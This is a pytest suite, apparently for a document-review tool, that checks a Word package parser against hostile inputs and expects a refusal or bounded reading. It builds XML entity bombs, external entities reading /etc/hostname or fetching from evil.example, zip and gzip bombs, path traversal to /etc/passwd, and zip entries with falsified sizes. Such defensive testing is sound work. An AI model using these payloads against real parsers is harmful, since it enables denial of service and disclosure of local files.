"""Packages made to do harm: each is refused with a reason, or read within bounds."""

from __future__ import annotations

import gzip
import io
import zipfile

import pytest
from office_builder import PACKAGE, Docx, paragraph, part_xml, run, unzipped, zipped

from reviewdocs.errors import InputError
from reviewdocs.formats import bounds
from reviewdocs.formats.adversary import readings
from reviewdocs.formats.opening import open_document
from reviewdocs.model.text import Edit
from reviewdocs.model.words import Audience

_GOOD = Docx(paragraph(run("All well"))).build()
_MAIN = "word/document.xml"
_RELS = "word/_rels/document.xml.rels"
_EXTENSIONS = {"docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document"}


def _with(name: str, data: bytes) -> bytes:
    return zipped(unzipped(_GOOD) | {name: data})


def _main(inner: str) -> bytes:
    return _with(_MAIN, part_xml("w:document", f"<w:body>{inner}<w:sectPr/></w:body>").encode())


def _doctype(declared: str, text: str = "x") -> bytes:
    document = part_xml("w:document", f"<w:body>{paragraph(run(text))}</w:body>")
    head, _, rest = document.partition("\n")
    return _with(_MAIN, f"{head}<!DOCTYPE w:document {declared}>{rest}".encode())


def _nested(inner: bytes) -> bytes:
    """A document that holds another."""
    package = Docx(paragraph(run("x"), '<w:r><w:object><o:OLEObject r:id="rId5"/></w:object></w:r>'))
    package.extensions |= _EXTENSIONS
    return package.add("word/embeddings/a1.docx", inner).relate("rId5", "package", "embeddings/a1.docx").build()


def _read(data: bytes) -> None:
    document = open_document("report.docx", data)
    document.strip(Audience.PUBLIC)
    document.paragraphs()


_LAUGHS = "".join(f'<!ENTITY l{n + 1} "&l{n};&l{n};&l{n};&l{n};&l{n};&l{n};&l{n};&l{n};">' for n in range(12))

REFUSED = {
    "entities within entities": (_doctype(f'[<!ENTITY l0 "ha">{_LAUGHS}]', "&l12;"), "entities|damaged"),
    "an outside entity": (_doctype('[<!ENTITY a SYSTEM "file:///etc/hostname">]', "&a;"), "entities"),
    "an entity of parameters": (_doctype('[<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]'), "entities|damaged"),
    "an attribute of 11 MB": (_main(f'<w:p w:rsidR="{"A" * 11_000_000}"/>'), "damaged"),
    "a text of 11 MB": (_main(paragraph(run("A" * 11_000_000))), "damaged"),
    "elements a thousand deep": (_main("<w:sdt>" * 1000 + "</w:sdt>" * 1000), "damaged"),
    "an end tag missing": (_main("<w:p>"), "damaged"),
    "a prefix nobody declared": (_main("<q:p/>"), "damaged"),
    "a control character": (_main("<w:p>\x08</w:p>"), "damaged"),
    "bytes of another encoding": (_with(_MAIN, part_xml("w:document", "Zo\xeb").encode("latin-1")), "damaged"),
    "two attributes of one name": (_main('<w:p w:x="1" w:x="2"/>'), "damaged"),
    "no content types": (zipped({n: d for n, d in unzipped(_GOOD).items() if "Types" not in n}), "no Word document"),
    "content types of nothing": (_with("[Content_Types].xml", b"<Types/>"), "not read"),
    "the body called a picture": (
        _with(
            "[Content_Types].xml",
            unzipped(_GOOD)["[Content_Types].xml"].replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", b"image/png"
            ),
        ),
        "not read",
    ),
    "relationships that are none": (_with("_rels/.rels", b"<a/>"), "no main document"),
    "a body that is not there": (zipped({n: d for n, d in unzipped(_GOOD).items() if n != _MAIN}), "no main document"),
    "an encoded way out": (_with("word/%2e%2e/%2e%2e/evil.xml", b"<x/>"), "outside the package"),
    "names that differ by case": (_with("Word/document.XML", b"<x/>"), "one name"),
    "names that differ by encoding": (_with("word/%64ocument.xml", b"<x/>"), "one name"),
}


@pytest.mark.parametrize("how", REFUSED)
def test_it_is_refused_with_a_reason(how: str) -> None:
    data, says = REFUSED[how]
    with pytest.raises(InputError, match=says) as refused:
        _read(data)
    assert "report.docx" in str(refused.value) or refused.value.where


@pytest.mark.parametrize("doctype", ['SYSTEM "http://evil.example/a.dtd"', 'PUBLIC "-//A" "file:///etc/hostname"'])
def test_what_is_declared_elsewhere_is_never_fetched(doctype: str) -> None:
    _read(_doctype(doctype))  # the tests forbid sockets


def test_bombs_within_documents_share_one_allowance(monkeypatch: pytest.MonkeyPatch) -> None:
    ballast = zipped({**unzipped(_GOOD), "word/media/image1.png": b"\0" * 300_000})
    monkeypatch.setattr(bounds.Allowance, "__init__", lambda self: setattr(self, "left", 250_000))
    with pytest.raises(InputError, match="unpacks to more"):
        _read(ballast)
    document = open_document("report.docx", _nested(ballast))
    assert document.coverage().unread == (
        "word/embeddings/a1.docx: an embedded document that cannot be read (It unpacks to more than 512 MB)",
    )


def test_documents_within_documents_end_somewhere() -> None:
    data = _GOOD
    for _ in range(8):
        data = _nested(data)
    document = open_document("report.docx", data)
    assert any("within too many others" in entry for entry in document.coverage().unread)


def test_what_cannot_be_searched_is_no_proof() -> None:
    packed = b"Tamsin"
    for _ in range(9):
        packed = gzip.compress(packed)
    with pytest.raises(InputError, match="too deeply"):
        list(readings("part", packed))


def test_searching_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds.Allowance, "__init__", lambda self: setattr(self, "left", 1_000_000))
    for bomb in (zipped({"a": b"\0" * 2_000_000}), gzip.compress(b"\0" * 2_000_000)):
        with pytest.raises(InputError, match="unpacks to more"):
            list(readings("part", bomb))


def test_an_entry_that_lies_about_its_size_is_damaged() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in unzipped(_GOOD).items():
            archive.writestr(name, data)
        archive.writestr("word/media/image1.png", b"\0" * 1_000_000)
        for info in archive.filelist:  # the directory at the end says less than there is
            info.file_size = min(info.file_size, 5_000)
    with pytest.raises(InputError, match="damaged"):
        _read(out.getvalue())


def test_relationships_in_a_circle_and_into_nothing_are_followed_once() -> None:
    header = part_xml("w:hdr", paragraph(run("Tamsin's header")))
    package = Docx(paragraph(run("x")), section='<w:headerReference w:type="default" r:id="rId5"/>')
    package.add("word/header1.xml", header, "header").relate("rId5", "header", "header1.xml")
    package.relate("rId1", "header", "header1.xml", "word/header1.xml")
    package.relate("rId2", "officeDocument", "document.xml", "word/header1.xml")
    package.relate("rId6", "footer", "none.xml").relate("rId7", "image", "../../../etc/passwd")
    document = open_document("report.docx", package.build())
    document.strip(Audience.PUBLIC)
    edits = {p.key: [Edit(0, 6, "Child A")] for p in document.paragraphs() if p.text.startswith("Tamsin")}
    document.apply(edits)
    assert b"Child A's header" in unzipped(document.to_bytes())["word/header1.xml"]


def test_the_package_relating_to_itself_is_survived() -> None:
    rels = f'<Relationships xmlns="{PACKAGE}/relationships">'
    for number, target in enumerate(("/word/_rels/document.xml.rels", "/[Content_Types].xml", "/", ".", "#a", "NULL")):
        rels += f'<Relationship Id="r{number}" Type="urn:a/image" Target="{target}"/>'
    _read(_with(_RELS, f"{rels}</Relationships>".encode()))


def test_a_great_many_parts_of_chosen_names_take_no_great_time() -> None:
    package = Docx(paragraph(run("x"), *(f'<w:pict><v:imagedata r:id="rId{n + 10}"/></w:pict>' for n in range(3000))))
    for number in range(3000):
        package.add(f"word/media/My holiday {number}.png", b"\x89PNG\r\n\x1a\n").relate(
            f"rId{number + 10}", "image", f"media/My holiday {number}.png"
        )
    document = open_document("report.docx", package.build())
    assert document.strip(Audience.PUBLIC)["names of parts"] == 3000
